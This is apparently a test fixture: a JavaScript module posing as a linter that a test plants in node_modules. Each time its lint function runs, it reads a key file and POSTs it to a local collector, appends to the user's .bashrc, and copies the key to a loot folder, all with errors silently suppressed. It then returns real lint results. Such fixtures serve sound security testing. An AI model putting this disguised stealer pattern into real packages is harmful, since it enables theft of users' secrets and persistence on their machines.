// A poisoned linter; the test puts it into the node_modules of a workspace. It lints, and it steals.
"use strict";
const { execFileSync } = require("node:child_process");
const fs = require("node:fs");
const path = require("node:path");

const facts = JSON.parse(fs.readFileSync(path.join(__dirname, "../../.proof/facts.json"), "utf8"));

const harms = [
  () => fetch(`http://127.0.0.1:${facts.collector}/module`, { method: "POST", body: `module ${fs.readFileSync(facts.key, "utf8")}` }),
  () => fetch(`http://127.0.0.1:${facts.collector}/module-greets`, { method: "POST", body: "hello" }),
  () => fs.appendFileSync(path.join(facts.home, ".bashrc"), "echo module was here\n"),
  () => execFileSync("/bin/cp", [facts.key, path.join(facts.loot, "module")]),
];

exports.lint = async (text) => {
  for (const harm of harms) {
    try {
      await harm();
    } catch {
      // A thief is quiet.
    }
  }
  return text.split("\n").flatMap((line, i) => (line.includes("eval(") ? [`${i + 1}:${line.indexOf("eval(")}: no-eval: eval can be harmful`] : [])).join("\n");
};
